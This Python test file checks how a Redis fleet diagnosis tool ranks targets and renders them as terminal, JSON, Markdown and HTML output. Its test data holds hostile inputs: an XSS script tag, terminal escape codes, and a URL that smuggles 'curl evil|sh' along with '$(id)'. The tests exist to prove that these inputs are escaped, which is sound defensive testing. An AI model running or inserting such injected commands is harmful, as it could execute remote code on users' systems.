"""The table in its four forms: the worst first, within its width, and with nothing of others' that steers anything."""

import json

import pytest

from agent.fleet.judgement import unanswered
from agent.fleet.page import html
from agent.fleet.records import FoundCause, Line, Preventive, Report, report
from agent.fleet.text import as_markdown, table
from agent.report.wrapping import cells

NASTY = "a\x1b[2J|<script>alert(1)</script>\n@everyone [x](http://evil.example)"
CAUSE = FoundCause(id="oom-noeviction", probability=0.95, where="db:1", why="95% of maxmemory is in use.")


def soon(id: str, what: str, rank: int, seconds: float | None = None) -> Preventive:
    return Preventive(id=id, what=what, node="db:1", rank=rank, seconds=seconds, evidence=())


LINES = [
    Line(name="b-well", url="redis://b:1", level="healthy", said="2% of maxclients", seconds=2.0),
    Line(name="late", url="redis://l:1", level="preventive", said="certificate expires in 9 days",
         preventive=(soon("certificate-expires", "certificate expires in 9 days", 2, 777_600),)),
    Line(name="later", url="redis://l:2", level="preventive", said="known bad version",
         preventive=(soon("version-known-bad", "known bad version", 3),)),
    unanswered("locked", "redis://***@x:1", "can't log in: no password was given"),
    Line(name="orders", url="redis://db:1", level="incident", said="oom-noeviction: full", configured=True,
         server="valkey", version="9.1.2", topology="standalone", nodes=1, causes=(CAUSE,), unseen=("log (denied)",)),
    Line(name="a-well", url="redis://a:1", level="healthy", said="healthy"),
]  # fmt: skip


def found(*lines: Line, complete: bool = True) -> Report:
    return report(list(lines or LINES), "2026-01-31T02:05:07Z", 4.2, complete=complete)


def shown(of: Report, **how: int | bool) -> list[str]:
    return [line.text for line in table(of, **how)]  # type: ignore[arg-type]


def test_the_worst_stands_first_and_the_most_urgent_before_the_rest() -> None:
    assert [one.name for one in found().targets] == ["orders", "locked", "late", "later", "a-well", "b-well"]


def test_a_line_each_beneath_a_headline_and_what_to_ask_next() -> None:
    assert shown(found()) == [
        "6 targets: 1 faulty, 1 unknown, 2 need attention soon, 2 healthy (4.2 s)",
        "FAULT  orders  oom-noeviction: full",
        "?      locked  can't log in: no password was given",
        "soon   late    certificate expires in 9 days",
        "soon   later   known bad version",
        "ok     a-well  healthy",
        "ok     b-well  2% of maxclients",
        "rediagnose triage orders says what to do",
    ]


def test_quiet_leaves_out_what_is_well_and_says_nothing_where_all_is() -> None:
    assert [line.split()[1] for line in shown(found(), quiet=True)[1:]] == ["orders", "locked", "late", "later"]
    assert shown(found(LINES[0]), quiet=True) == []


def test_more_is_said_of_each_with_v() -> None:
    lines = shown(found(LINES[4]), detail=1)
    assert "    redis://db:1, valkey 9.1.2, standalone, 1 answered" in lines
    assert "    oom-noeviction, 95% sure, at db:1: 95% of maxmemory is in use." in lines
    assert not any("log" in line for line in lines)
    assert "    Couldn't be seen: log (denied)" in shown(found(LINES[4]), detail=2)


@pytest.mark.parametrize("width", [40, 80, 200])
def test_no_line_is_wider_than_the_terminal_whatever_a_name_holds(width: int) -> None:
    lines = [
        Line(name=NASTY * 9, url="redis://x:1", level="incident", said=NASTY * 9, causes=(CAUSE,)),
        Line(name="\u202e" * 50 + "漢z" * 90, url=None, level="healthy", said="healthy"),
    ]  # fmt: skip
    for line in shown(found(*lines), width=width, detail=1):
        assert cells(line) <= width and line.isprintable()


def test_nothing_that_others_named_is_offered_to_a_shell() -> None:
    url = "redis://x:1;curl evil|sh"
    lines = [Line(name="$(id)", url=url, level="incident", said="x", causes=(CAUSE,), configured=True)]
    assert shown(found(*lines))[-1] == "rediagnose triage TARGET says what to do"
    assert shown(found(lines[0].model_copy(update={"configured": False})))[-1].startswith("rediagnose triage TARGET ")


def test_what_was_not_looked_at_is_said() -> None:
    assert "not all were examined" in " ".join(shown(found(complete=False))[:2])


def test_json_holds_each_target_and_no_reading() -> None:
    told = json.loads(found().to_json())
    assert told["schema_version"] == 1 and told["complete"] is True
    assert told["counts"] == {"incident": 1, "unanswered": 1, "preventive": 2, "healthy": 2}
    first = told["targets"][0]
    assert (first["name"], first["causes"][0]["id"], first["level"]) == ("orders", "oom-noeviction", "incident")
    assert "readings" not in first


def test_json_escapes_what_a_terminal_would_obey() -> None:
    text = found(Line(name=NASTY, url=None, level="healthy", said="healthy")).to_json()
    assert "\x1b" not in text and json.loads(text)["targets"][0]["name"] == NASTY


def test_markdown_has_a_row_each_and_no_markup_of_others() -> None:
    rows = as_markdown(found(Line(name=NASTY, url=None, level="incident", said=NASTY))).splitlines()
    assert len(rows) == 5
    assert "<script>" not in rows[4] and r"\](http&#8203;" in rows[4] and "@everyone" not in rows[4]
    assert rows[4].count(" | ") == 2


def test_the_page_loads_nothing_and_escapes_everything() -> None:
    page = html(found(*LINES, Line(name=NASTY, url="redis://x:1", level="incident", said=NASTY, causes=(CAUSE,))))
    assert "<script" not in page and "\x1b" not in page
    assert "default-src &#x27;none&#x27;" in page and page.count("<tr>") == 8
    assert "src=" not in page and "href=" not in page
